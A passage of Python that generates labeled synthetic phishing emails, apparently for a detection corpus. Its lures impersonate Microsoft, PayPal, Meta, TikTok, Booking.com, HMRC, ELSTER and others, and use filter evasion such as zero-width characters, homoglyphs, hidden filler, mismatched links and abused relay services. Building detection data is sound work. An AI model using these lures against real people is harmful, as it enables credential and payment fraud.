    emit("phishing", "agenzia-entrate-rimborso-qr-in-pdf-it", "tax-refund notice under the Agenzia delle Entrate name from a dentist's hijacked Aruba mailbox; the PDF holds only a QR code to a firebaseapp page",
         top, sender, mixed("=_" + hexs("p38b", 32), txt(text),
                            att("application/pdf", "Comunicazione_Rimborso_118457.pdf", data)))


# ==========================================================================
# PHISHING 7: text obfuscation


ZW = "\u200b"
SHY = "\u00ad"


def p_microsoft_obfuscated() -> None:
    t = when("2025-03-11 04:17:36")
    rcpt = "oliver.brennan@outlook.com"
    frm = "security-noreply@acct-review-center.com"
    href = "https://ms-signin-review.web.app/acsr?u=" + base64.b64encode(rcpt.encode()).decode()
    shown = "https://account.live.com/acsr"
    text = (f"Mi{ZW}cro{SHY}soft ac{ZW}count\n\nUn{SHY}usual sign-in ac{ZW}tivity\n\n"
            f"We detected something unusual about a recent sign-in to the Micro{SHY}soft account {rcpt}.\n\n"
            "Sign-in details\nCountry/region: Russia\nIP address: 95.173.136.70\nDate: 11/03/2025 04:12 (GMT)\n"
            "Platform: Windows 10\nBrowser: Firefox\n\n"
            f"If this wasn't you, your account may have been com{ZW}pro{ZW}mised. Please review your recent activity "
            f"and se{SHY}cure your ac{SHY}count: {shown}\n\nThanks,\nThe Micro{ZW}soft account team\n")

    def split(word: str) -> str:
        parts = [word[i:i + 2] for i in range(0, len(word), 2)]
        return "".join(f'<span style="font-family:Segoe UI">{p}</span>' for p in parts)

    filler = ("Spring planting guide: sow tomatoes indoors six weeks before the last frost, harden seedlings off "
              "for a week, and water deeply at the base. Our community garden opens on Saturday at 9am; bring gloves. "
              "Recipe of the week: lemon and thyme roast chicken with new potatoes. ") * 3
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">
<div style="display:none;font-size:0;line-height:0;max-height:0;overflow:hidden;color:#ffffff;opacity:0">{filler}</div>
<table dir="ltr" cellpadding="0" cellspacing="0"><tr><td style="padding:0;font-size:17px;color:#707070">{split('Microsoft')} ac&#8203;count</td></tr>
<tr><td style="padding:0;font-size:41px;color:#2672ec">Un&shy;usual sign-in ac&#x200B;tivity</td></tr>
<tr><td style="padding:25px 0 0">We detected something unusual about a recent sign-in to the {split('Microsoft')} account <a dir="ltr" style="color:#2672ec;text-decoration:none" href="mailto:{rcpt}">{rcpt}</a>.</td></tr>
<tr><td style="padding:25px 0 0"><b>Sign-in details</b><br>Country/region: Russia<br>IP address: 95.173.136.70<br>Date: 11/03/2025 04:12 (GMT)<br>Platform: Windows 10<br>Browser: Firefox</td></tr>
<tr><td style="padding:25px 0 0">If this wasn't you, your account may have been com&#8203;pro&#8203;mised. Please review your recent activity and se&shy;cure your ac&shy;count:</td></tr>
<tr><td style="padding:12px 0 0"><a href="{href}" style="color:#2672ec">{shown}</a></td></tr>
<tr><td style="padding:25px 0 0">Thanks,<br>The {split('Microsoft')} account team</td></tr>
<tr><td style="padding:30px 0 0;font-size:0;color:#ffffff">ref {rnd('p39ref', 40, ALNUM)} newsletter unsubscribe preferences</td></tr>
</table></body></html>
"""
    top, bottom = m365_in(rcpt, t, "91.92.245.18", "mx.acct-review-center.com", frm, "pass",
                          ("acct-review-center.com", "pass"), ("none", "none"), "acct-review-center.com",
                          ("pass", "109"), "p39", ctry="BG", lang="en", consumer=True)
    sender = f"""\
{dkim('acct-review-center.com', 'mail', 'p39', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from [127.0.0.1] (unknown [91.92.245.18])
\tby mx.acct-review-center.com (Postfix) with ESMTPSA id 4ZBj2w0q1Lz2bD
\tfor <{rcpt}>; {rfc(t, seconds=-2)}
From: {hdr('Micro' + ZW + 'soft account team')} <{frm}>
To: {rcpt}
Subject: {hdr('Micro' + SHY + 'soft ac' + ZW + 'count unusual sign-in ac' + ZW + 'tivity')}
Date: {rfc(t, seconds=-3)}
Message-ID: <{hexs('p39m', 32)}@acct-review-center.com>
MIME-Version: 1.0
"""
    emit("phishing", "microsoft-unusual-signin-zero-width-split-spans-hidden-filler", "Microsoft sign-in alert with zero-width and soft-hyphen characters inside words, brand split over spans, hidden garden-newsletter filler, link text shows account.live.com while the href goes to web.app",
         top, sender, alt("b1_" + rnd("p39b", 32, ALNUM), text, html), bottom)


def p_paypal_homoglyph_de() -> None:
    t = when("2023-09-19 17:52:08")
    rcpt = "uwe.hoffmann71@gmx.de"
    frm = "service@gasthof-sonnenhof-tirol.at"
    link = "https://www.gasthof-sonnenhof-tirol.at/wp-includes/js/pp/de/konto/?sid=" + hexs("p40s", 24)
    pp = "P\u0430yP\u0430l"  # Cyrillic a
    ent = "".join(f"&#{ord(c)};" for c in "PayPal")

    def ents(s: str) -> str:
        return "".join(f"&#{ord(c)};" if c.isalpha() else c for c in s)

    text = f"""{pp}

Ihr {pp}-Konto wurde vorübergehend eingeschränkt

Lieber {pp}-Kunde,

wir haben ungewöhnliche Aktivitäten in Ihrem Konto festgestellt. Zu Ihrer
Sicherheit haben wir den Zugriff vorübergehend eingeschränkt.

Bitte bestätigen Sie innerhalb von 48 Stunden Ihre Identität, um alle
Funktionen wiederherzustellen:

{link}

Vielen Dank
Ihr {pp}-Team
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f7fa;font-family:Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 0">
<table width="580" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:28px 36px"><span style="font-size:28px;font-weight:bold;font-style:italic"><span style="color:#003087">{pp[:3]}</span><span style="color:#009cde">{pp[3:]}</span></span></td></tr>
<tr><td style="padding:0 36px;font-size:22px;color:#2c2e2f">{ents('Ihr')} {ent}-{ents('Konto wurde vorübergehend eingeschränkt')}</td></tr>
<tr><td style="padding:20px 36px;font-size:15px;line-height:22px;color:#2c2e2f">Lieber {pp}-Kunde,<br><br>wir haben {ents('ungewöhnliche Aktivitäten')} in Ihrem Konto festgestellt. Zu Ihrer Sicherheit haben wir den Zugriff {ents('vorübergehend eingeschränkt')}.<br><br>Bitte {ents('bestätigen')} Sie innerhalb von <b>48 Stunden</b> Ihre {ents('Identität')}, um alle Funktionen wiederherzustellen.</td></tr>
<tr><td align="center" style="padding:10px 36px 30px"><a href="{link}" style="background:#0070ba;color:#fff;padding:13px 40px;border-radius:23px;text-decoration:none;font-weight:bold">{ents('Jetzt bestätigen')}</a></td></tr>
<tr><td style="padding:18px 36px;background:#f7f9fa;font-size:11px;color:#6c7378">Copyright &copy; 1999-2023 {pp}. Alle Rechte vorbehalten.</td></tr>
</table></td></tr></table></body></html>
"""
    top = gmx_in(rcpt, t, "91.227.205.221", "web41.world4you.com", frm, "pass", None, "none",
                 "gasthof-sonnenhof-tirol.at", "p40")
    sender = f"""\
Received: from [37.120.156.90] (helo=[127.0.0.1])
\tby web41.world4you.com with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384
\t(Exim 4.94.2)
\t(envelope-from <{frm}>)
\tid 1qiduv-0004dX-0F
\tfor {rcpt}; {rfc(t, 'Europe/Vienna', seconds=-2)}
From: {hdr(pp + ' Service')} <{frm}>
To: {rcpt}
Subject: {hdr('Ihr ' + pp + '-Konto wurde eingeschränkt – Handlung erforderlich')}
Date: {rfc(t, 'Europe/Vienna', seconds=-3)}
Message-ID: <{hexs('p40m', 32)}@gasthof-sonnenhof-tirol.at>
MIME-Version: 1.0
X-Mailer: PHPMailer 6.1.7
"""
    emit("phishing", "paypal-cyrillic-homoglyph-html-entities-de", "PayPal name written with Cyrillic 'а' in display name, subject and body, keywords as HTML numeric entities; link into a hacked Austrian inn's wp-includes folder",
         top, sender, alt("b1_" + rnd("p40b", 32, ALNUM), text, html))


# ==========================================================================
# PHISHING 8: social networks, travel, jobs, tax


def p_meta_salesforce() -> None:
    t = when("2024-08-08 15:27:44")
    rcpt = "carlos.mtz.reyes@gmail.com"
    link = "https://business-help-appeal.netlify.app/case/6248119072"
    mf = f"bounce-{rnd('p41mf', 16, LOWNUM)}@{digits('p41mfd', 2)}x{digits('p41mfe', 7)}.bnc.salesforce.com"
    top = gmail_in(rcpt, t, "13.110.74.220", "smtp09-ia5-sp3.mta.salesforce.com", mf, "pass",
                   [("salesforce.com", "sf112017", "pass")], ("pass", "p=REJECT", "sp=REJECT", "NONE", "salesforce.com"), "p41")
    text = f"""Meta for Business

Your Page has been scheduled for permanent deletion

We have received several reports that your Page violates our Community
Standards on intellectual property. As a result, your Page and linked
advertising account are scheduled for deletion.

Case number: #6248119072

If you believe this is a mistake, you can submit an appeal within 24 hours.
After this period the decision is final.

Submit appeal: {link}

Thank you,
Meta Business Support Team
© Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<html><body style="margin:0;background:#f0f2f5;font-family:Helvetica,Arial,sans-serif;color:#1c1e21">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px">
<tr><td style="padding:24px 32px"><span style="color:#0866ff;font-size:22px;font-weight:bold">&#8734; Meta</span> <span style="color:#65676b">for Business</span></td></tr>
<tr><td style="padding:0 32px;font-size:20px;font-weight:bold">Your Page has been scheduled for permanent deletion</td></tr>
<tr><td style="padding:16px 32px;font-size:15px;line-height:22px">We have received several reports that your Page violates our Community Standards on intellectual property. As a result, your Page and linked advertising account are scheduled for deletion.<br><br>Case number: <b>#6248119072</b><br><br>If you believe this is a mistake, you can submit an appeal within <b>24 hours</b>. After this period the decision is final.</td></tr>
<tr><td style="padding:8px 32px 28px"><a href="{link}" style="background:#0866ff;color:#fff;padding:11px 26px;border-radius:6px;text-decoration:none;font-weight:bold">Submit appeal</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#8a8d91;border-top:1px solid #e4e6eb">Thank you,<br>Meta Business Support Team<br>&copy; Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('salesforce.com', 'sf112017', 'p41', t, h='Date:From:To:Message-ID:Subject:MIME-Version:Content-Type')}
Received: from [10.180.203.{digits('p41o', 2)}] ([10.180.203.{digits('p41o', 2)}:42208] helo=na214-app1-44-ia5.ops.sfdc.net)
\tby mx4-ia5-sp3.mta.salesforce.com (envelope-from <{mf}>)
\t(ecelerity 4.2.38.62368 r(Strawberry:4.2.38.0)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384
\tsubject="/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ia5;2:ia5-sp3;3:na214;4:prod/CN=na214-app1-44-ia5.ops.sfdc.net")
\tid {hexs('p41id', 2).upper()}/{hexs('p41id2', 2).upper()}-{digits('p41id3', 5)}-{hexs('p41id4', 8)}; {rfc(t, seconds=-1)}
Date: {rfc(t, seconds=-2)}
From: Meta for Business <noreply@salesforce.com>
To: "{rcpt}" <{rcpt}>
Message-ID: <{rnd('p41m', 20, ALNUM)}00000000000000000000000000000000000000000000000{rnd('p41m2', 20, UPALNUM)}@sfdc.net>
Subject: Your Page has been scheduled for permanent deletion - Case #6248119072
MIME-Version: 1.0
X-Priority: 3
X-SFDC-LK: 00D{rnd('p41lk', 15, ALNUM)}
X-SFDC-User: 005{rnd('p41u', 15, ALNUM)}
X-Sender: postmaster@salesforce.com
X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp
X-SFDC-TLS-NoRelay: 1
X-SFDC-Binding: 1WrIRBV94myi25uB
X-SFDC-EmailCategory: apiSingleMail
X-SFDC-Interface: internal
"""
    emit("phishing", "meta-page-deletion-appeal-via-salesforce-netlify", "Meta page-deletion threat sent through Salesforce's mail relay (DKIM/DMARC pass for salesforce.com, From noreply@salesforce.com); 24-hour appeal on netlify.app",
         top, sender, alt("----=_Part_" + digits("p41b", 6) + "_" + digits("p41b2", 9) + ".1723130864000", text, html))


def p_tiktok_brevo_es() -> None:
    t = when("2024-02-14 18:09:30")
    rcpt = "alba.serrano.g@gmail.com"
    mf = f"{rnd('p42mf', 26, LOWNUM)}@a{digits('p42mfa', 6)}.bounces.brevosend.com"
    click = "https://3eb7f1.r.sp1-brevo.net/mk/cl/f/sh/" + rnd("p42c", 120, ALNUM + "-_")
    top = gmail_in(rcpt, t, "77.32.148.29", "smtp-relay.sendinblue.com", mf, "pass",
                   [("estudioluzfotografia.es", "mail", "pass"), ("sendinblue.com", "mail", "pass")],
                   ("pass", "p=NONE", "sp=NONE", "NONE", "estudioluzfotografia.es"), "p42")
    text = f"""TikTok

¡Felicidades! Tu cuenta cumple los requisitos para la insignia de verificación

Hemos revisado tu actividad reciente y tu cuenta cumple los criterios de
autenticidad y notoriedad para recibir la insignia azul de verificación.

Para completar el proceso, confirma la titularidad de tu cuenta iniciando
sesión antes de 48 horas. Si no lo haces, la solicitud se cerrará.

Obtener insignia: {click}

Equipo de TikTok Creators
Darse de baja: https://3eb7f1.r.sp1-brevo.net/mk/un/sh/{rnd('p42u', 60, ALNUM)}
"""
    html = f"""<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#000;font-family:TikTok Sans,Helvetica,Arial,sans-serif;color:#fff">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 0">
<table width="540" cellpadding="0" cellspacing="0" style="background:#121212;border-radius:10px">
<tr><td align="center" style="padding:30px 0 10px;font-size:28px;font-weight:bold"><span style="color:#25f4ee">Tik</span><span style="color:#fe2c55">Tok</span></td></tr>
<tr><td align="center" style="padding:10px 36px;font-size:22px;font-weight:bold">¡Felicidades! Tu cuenta cumple los requisitos para la insignia de verificación &#10004;&#65039;</td></tr>
<tr><td style="padding:14px 36px;font-size:15px;line-height:22px;color:#d0d0d0">Hemos revisado tu actividad reciente y tu cuenta cumple los criterios de autenticidad y notoriedad para recibir la insignia azul de verificación.<br><br>Para completar el proceso, confirma la titularidad de tu cuenta iniciando sesión antes de <b>48 horas</b>. Si no lo haces, la solicitud se cerrará.</td></tr>
<tr><td align="center" style="padding:20px 36px 30px"><a href="{click}" style="background:#fe2c55;color:#fff;padding:13px 38px;border-radius:4px;text-decoration:none;font-weight:bold">Obtener insignia</a></td></tr>
<tr><td align="center" style="padding:14px;font-size:11px;color:#777">Equipo de TikTok Creators &middot; <a href="https://3eb7f1.r.sp1-brevo.net/mk/un/sh/{rnd('p42u', 60, ALNUM)}" style="color:#777">Darse de baja</a></td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://3eb7f1.r.sp1-brevo.net/mk/op/sh/{rnd('p42o', 70, ALNUM)}" alt="">
</body></html>
"""
    sender = f"""\
{dkim('estudioluzfotografia.es', 'mail', 'p42', t, h='from:reply-to:to:date:subject:mime-version:list-unsubscribe:content-type')}
{dkim('sendinblue.com', 'mail', 'p42s', t, h='from:reply-to:to:date:subject:mime-version:list-unsubscribe:content-type')}
Received: from smtp-relay.sendinblue.com (unknown [10.14.8.{digits('p42o', 2)}])
\tby smtp-relay.sendinblue.com (Postfix) with ESMTP id 4TZl1t3rbhz2X
\tfor <{rcpt}>; {rfc(t, seconds=-1)}
From: TikTok Creators <hola@estudioluzfotografia.es>
Reply-To: TikTok Creators <hola@estudioluzfotografia.es>
To: <{rcpt}>
Date: {rfc(t, seconds=-2)}
Subject: =?UTF-8?Q?Tu_cuenta_es_elegible_para_la_insignia_de_verificaci=C3=B3n?=
Message-Id: <{guid('p42m')}@smtp-relay.sendinblue.com>
MIME-Version: 1.0
List-Unsubscribe: <https://3eb7f1.r.sp1-brevo.net/mk/un/sh/{rnd('p42u', 60, ALNUM)}>
X-Mailin-EID: {rnd('p42eid', 40)}
X-sib-id: {rnd('p42sib', 60)}
X-CSA-Complaints: csa-complaints@eco.de
Feedback-ID: {digits('p42fb', 7)}:{digits('p42fb2', 2)}:mktg:Sendinblue
Origin-messageId: <{guid('p42om')}@smtp-relay.sendinblue.com>
"""
    emit("phishing", "tiktok-verified-badge-brevo-hijacked-studio-es", "TikTok 'verification badge' lure sent through a photo studio's Brevo account (auth passes for the studio); the login link hides behind Brevo click tracking",
         top, sender, alt("----=_Part_" + digits("p42b", 6) + "_" + digits("p42b2", 9) + ".1707934170000", text, html))


def booking_message(rcpt, t, seed, hotel, hotel_id, res, body_text, body_html, lang_subject,
                    ip: str = "5.57.20.136") -> tuple[str, str, Multi]:
    """A message from a property through Booking.com's messaging, as Booking relays it to the guest."""
    relay = f"{hotel_id}-{hexs(seed + 'r', 12)}@property.booking.com"
    mf = f"bounce-{hexs(seed + 'mf', 16)}@mailout.booking.com"
    top = gmail_in(rcpt, t, ip, "mailout-201-r3.booking.com", mf, "pass",
                   [("booking.com", "bk", "pass")], ("pass", "p=REJECT", "sp=REJECT", "NONE", "booking.com"), seed)
    link = f"https://secure.booking.com/messages.html?res_id={res}&pin_hash={hexs(seed + 'pin', 16)}&source=email_msg&lang=en-gb"
    text = f"""{hotel} sent you a message
Reservation {res}

{body_text}

Reply: {link}

You're receiving this email because you made a booking on Booking.com.
Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, The Netherlands
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;font-family:BlinkMacSystemFont,-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif;color:#1a1a1a">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="background:#003580;padding:16px 24px"><img src="https://cf.bstatic.com/static/img/email/booking-logo-white.png" width="130" alt="Booking.com"></td></tr>
<tr><td style="padding:24px 24px 6px;font-size:20px;font-weight:bold">{htmllib.escape(hotel)} sent you a message</td></tr>
<tr><td style="padding:0 24px 16px;font-size:14px;color:#595959">Reservation {res}</td></tr>
<tr><td style="padding:0 24px"><div style="background:#f0f6ff;border-radius:8px;padding:16px;font-size:15px;line-height:22px">{body_html}</div></td></tr>
<tr><td style="padding:22px 24px"><a href="{htmllib.escape(link)}" style="background:#006ce4;color:#fff;padding:11px 24px;border-radius:4px;text-decoration:none;font-weight:bold">Reply</a></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#6b6b6b;border-top:1px solid #e7e7e7">You're receiving this email because you made a booking on Booking.com.<br>Booking.com B.V., Oosterdokskade 163, 1011 DL Amsterdam, The Netherlands</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('booking.com', 'bk', seed, t, h='From:To:Reply-To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from mailout-201-r3.booking.com (localhost [127.0.0.1])
\tby mailout-201-r3.booking.com (Postfix) with ESMTP id 4{rnd(seed + 'q', 10, ALNUM)}
\tfor <{rcpt}>; {rfc(t, 'Europe/Amsterdam', seconds=-1)}
From: {hdr(hotel)} <{relay}>
Reply-To: {hdr(hotel)} <{relay}>
To: {rcpt}
Subject: {hdr(lang_subject)}
Date: {rfc(t, 'Europe/Amsterdam', seconds=-2)}
Message-ID: <{hexs(seed + 'm', 24)}.{digits(seed + 'm2', 10)}@booking.com>
MIME-Version: 1.0
X-Booking-Topic: messaging_hotel_to_guest
"""
    return top, sender, alt(hexs(seed + "b", 40), text, html)


def p_booking_confirm_card() -> None:
    t = when("2023-12-12 19:44:03")
    rcpt = "emma.castellano@gmail.com"
    link = "https://secure-bkng.reservation-id7731.com/confirm/3829104"
    body_text = f"""Dear guest,

Unfortunately our system could not verify the card you used for this
reservation, and the booking will be cancelled automatically in 24 hours.

To keep your reservation, please confirm your card details through the
secure Booking.com payment page (no amount will be charged, this is only a
verification):

{link}

We look forward to welcoming you.
Reception - Hotel Paseo del Arte"""
    body_html = ("Dear guest,<br><br>Unfortunately our system could not verify the card you used for this reservation, "
                 "and the booking will be <b>cancelled automatically in 24 hours</b>.<br><br>To keep your reservation, "
                 "please confirm your card details through the secure Booking.com payment page (no amount will be "
                 f"charged, this is only a verification):<br><br><a href=\"{link}\">{link}</a><br><br>"
                 "We look forward to welcoming you.<br>Reception - Hotel Paseo del Arte")
    top, sender, node = booking_message(rcpt, t, "p43", "Hotel Paseo del Arte", "1843377", "4177216093",
                                        body_text, body_html, "We've received a message from Hotel Paseo del Arte",
                                        ip="5.57.17.10")
    emit("phishing", "booking-com-hotel-message-confirm-card-24h", "message relayed by Booking.com's real messaging (auth passes for booking.com) from a hijacked hotel account: card 'not verified', cancellation in 24 h, link to an outside 'payment page'",
         top, sender, node)


def p_job_offer_linkedin_login() -> None:
    t = when("2025-05-14 14:22:57")
    rcpt = "priya.raman.work@gmail.com"
    frm = "rachel.kim@northwind-talent.co"
    link = "https://offers.northwind-talent.co/portal/uas/login?session_redirect=%2Foffer%2F88213&src=li"
    top = gmail_in(rcpt, t, "198.54.127.87", "mta-27.privateemail.com", frm, "pass",
                   [("northwind-talent.co", "default", "pass")],
                   ("pass", "p=NONE", "sp=NONE", "NONE", "northwind-talent.co"), "p44")
    text = f"""Hi Priya,

Thank you for your time during the screening last week. I'm pleased to let
you know that the hiring team at Spotify has approved an offer for the
Senior Data Analyst (Remote, EMEA) position.

Base salary: EUR 92,000 + annual bonus + equity
Start date: flexible (June/July 2025)

Your offer letter and onboarding documents are available in our candidate
portal. For identity verification, please sign in with your LinkedIn account:

{link}

The offer is valid for 72 hours. Let me know if you have any questions.

Best,
Rachel Kim
Senior Technical Recruiter
Northwind Talent Partners
"""
    html = para_html(text, "Arial, sans-serif", "10pt").replace(
        htmllib.escape(link), f'<a href="{htmllib.escape(link)}" style="background:#0a66c2;color:#fff;padding:8px 18px;border-radius:16px;text-decoration:none">Sign in with LinkedIn to view your offer</a>')
    sender = f"""\
{dkim('northwind-talent.co', 'default', 'p44', t, h='Date:From:To:Subject:Message-ID:MIME-Version:Content-Type')}
Received: from APP-07 (unknown [10.50.14.207])
\tby mta-27.privateemail.com (Postfix) with ESMTPA
\tfor <{rcpt}>; {rfc(t, 'America/New_York', seconds=-2)}
Date: {rfc(t, 'America/New_York', seconds=-3)}
From: Rachel Kim <{frm}>
To: Priya Raman <{rcpt}>
Message-ID: <{digits('p44m', 9)}.{digits('p44m2', 6)}@privateemail.com>
Subject: Offer approved - Senior Data Analyst (Remote) at Spotify
MIME-Version: 1.0
X-Mailer: Open-Xchange Mailer v7.10.6-Rev66
"""
    emit("phishing", "job-offer-spotify-recruiter-linkedin-login", "unsolicited 'offer approved' from a recruiter on a new .co domain; 'sign in with LinkedIn' button to the recruiter's own portal, 72-hour deadline",
         top, sender, alt("----=_Part_" + digits("p44b", 6) + "_" + digits("p44b2", 9) + ".1747232577000", text, html))


def p_hmrc_refund() -> None:
    t = when("2025-01-28 11:09:42")
    rcpt = "tom.ashworth@outlook.com"
    frm = "admin@pennyfields-nursery.co.uk"
    link = "https://taxrefund-gov.uk.com/claim?ref=HMRC-RF-" + digits("p45r", 8)
    text = f"""GOV.UK

HM Revenue & Customs

Tax refund notification

After the annual calculation of your fiscal activity for the tax year
2023-24 we have determined that you are eligible to receive a tax refund of
£612.40.

Please submit the tax refund request and allow up to 3 working days for it
to be processed. Refunds not claimed by 31 January 2025 will be forfeited.

Claim your refund: {link}

HM Revenue & Customs
"""
    html = f"""<html><body style="margin:0;font-family:Arial,Helvetica,sans-serif;color:#0b0c0c">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:14px 28px"><span style="color:#fff;font-size:26px;font-weight:bold">GOV.UK</span></td></tr>
<tr><td style="border-bottom:10px solid #1d70b8"></td></tr>
<tr><td style="padding:24px 28px 0;font-size:16px;color:#505a5f">HM Revenue &amp; Customs</td></tr>
<tr><td style="padding:8px 28px;font-size:30px;font-weight:bold">Tax refund notification</td></tr>
<tr><td style="padding:12px 28px;font-size:19px;line-height:28px">After the annual calculation of your fiscal activity for the tax year 2023-24 we have determined that you are eligible to receive a tax refund of <b>&pound;612.40</b>.<br><br>Please submit the tax refund request and allow up to 3 working days for it to be processed. Refunds not claimed by 31 January 2025 will be forfeited.</td></tr>
<tr><td style="padding:12px 28px 30px"><a href="{link}" style="background:#00703c;color:#fff;padding:10px 20px;font-size:19px;text-decoration:none;box-shadow:0 2px 0 #002d18">Claim your refund</a></td></tr>
</table></body></html>
"""
    top, bottom = m365_in(rcpt, t, "77.68.76.21", "smtp.livemail.co.uk", frm, "pass",
                          None, ("none", "none"), "pennyfields-nursery.co.uk", ("softpass", "001"), "p45",
                          ctry="GB", lang="en", consumer=True)
    sender = f"""\
Received: from [185.107.56.201] (helo=[127.0.0.1])
\tby smtp.livemail.co.uk with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384
\t(Exim 4.96)
\t(envelope-from <{frm}>)
\tid 1tcjQp-0007bW-2G
\tfor {rcpt}; {rfc(t, 'Europe/London', seconds=-2)}
From: HMRC <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Tax_refund_notification_=E2=80=93_=C2=A3612=2E40?=
Date: {rfc(t, 'Europe/London', seconds=-3)}
Message-ID: <{hexs('p45m', 32)}@pennyfields-nursery.co.uk>
MIME-Version: 1.0
"""
    emit("phishing", "hmrc-tax-refund-nursery-mailbox-ukcom", "HMRC refund lure under GOV.UK styling from a nursery's hijacked mailbox; claim link on a .uk.com lookalike of gov.uk with a deadline",
         top, sender, alt("b1_" + rnd("p45b", 32, ALNUM), text, html), bottom)


def p_elster_de() -> None:
    t = when("2024-07-16 08:30:11")
    rcpt = "uwe.hoffmann71@gmx.de"
    frm = "noreply@elster-mitteilung.de"
    href = "https://elster-mitteilung.de/eportal/login/softpse?ref=" + hexs("p46r", 20)
    shown = "https://www.elster.de/eportal/login/softpse"
    text = f"""ELSTER - Ihr Online-Finanzamt

Neue Nachricht in Ihrem ELSTER-Postfach

Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,

für Sie liegt ein neuer Bescheid vor: Einkommensteuerbescheid 2023 –
Erstattungsbetrag 872,40 EUR.

Damit die Erstattung ausgezahlt werden kann, bestätigen Sie bitte Ihre
Bankverbindung bis zum 23.07.2024 in Mein ELSTER:

{shown}

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht darauf.
Bayerisches Landesamt für Steuern
"""
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="padding:16px 0;border-bottom:3px solid #6ba539"><span style="font-size:24px;font-weight:bold;color:#2d5b8c">ELSTER</span> <span style="color:#666">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:18px 0 6px;font-size:18px;font-weight:bold">Neue Nachricht in Ihrem ELSTER-Postfach</td></tr>
<tr><td style="padding:8px 0;line-height:21px">Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,<br><br>für Sie liegt ein neuer Bescheid vor: <b>Einkommensteuerbescheid 2023 &ndash; Erstattungsbetrag 872,40&nbsp;EUR</b>.<br><br>Damit die Erstattung ausgezahlt werden kann, bestätigen Sie bitte Ihre Bankverbindung bis zum <b>23.07.2024</b> in Mein ELSTER:</td></tr>
<tr><td style="padding:12px 0"><a href="{href}" style="color:#2d5b8c">{shown}</a></td></tr>
<tr><td style="padding:20px 0;font-size:12px;color:#777;border-top:1px solid #ddd">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht darauf.<br>Bayerisches Landesamt für Steuern</td></tr>
</table></body></html>
"""
    top = gmx_in(rcpt, t, "45.141.87.19", "mail.elster-mitteilung.de", frm, "pass",
                 ("elster-mitteilung.de", "pass"), "none", "elster-mitteilung.de", "p46")
    sender = f"""\
{dkim('elster-mitteilung.de', 'mail', 'p46', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from localhost (unknown [45.141.87.19])
\tby mail.elster-mitteilung.de (Postfix) with ESMTPSA id 4WNcq31Kz5z9sW
\tfor <{rcpt}>; {rfc(t, 'Europe/Berlin', seconds=-2)}
From: ELSTER - Ihr Online-Finanzamt <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Neue_Nachricht_in_Ihrem_ELSTER-Postfach_=E2=80=93_Erstattung_2023?=
Date: {rfc(t, 'Europe/Berlin', seconds=-3)}
Message-ID: <{hexs('p46m', 30)}@elster-mitteilung.de>
MIME-Version: 1.0
"""
    emit("phishing", "elster-erstattung-link-text-shows-elster-de", "ELSTER refund notice from a lookalike 'elster-mitteilung.de'; the link text is the genuine www.elster.de login URL while the href goes to the lookalike; asks for bank details",
         top, sender, alt("b1_" + rnd("p46b", 32, ALNUM), text, html))


def p_sat_mx() -> None:
    t = when("2024-03-19 16:55:08")
    rcpt = "jorge.villalobos.mx@gmail.com"
    frm = "notificaciones@buzon-sat-aviso.com"
    link = "https://buzon-sat-aviso.com/acceso/contribuyente?rfc=" + rnd("p47rfc", 10, UPALNUM)
    text = f"""Servicio de Administración Tributaria

Buzón Tributario – Aviso de irregularidad fiscal

Estimado contribuyente:

Se detectaron inconsistencias en su declaración anual del ejercicio 2023.
Para evitar la cancelación de sus sellos digitales y la aplicación de
multas, consulte el requerimiento e ingrese con su RFC y contraseña o
e.firma antes de 72 horas:

{link}

Atentamente,
Servicio de Administración Tributaria
"""
    html = f"""<html><body style="font-family:Montserrat,Arial,sans-serif;font-size:14px;color:#333">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="background:#6f1d46;color:#fff;padding:16px 22px;font-size:20px;font-weight:bold">SAT &middot; Servicio de Administración Tributaria</td></tr>
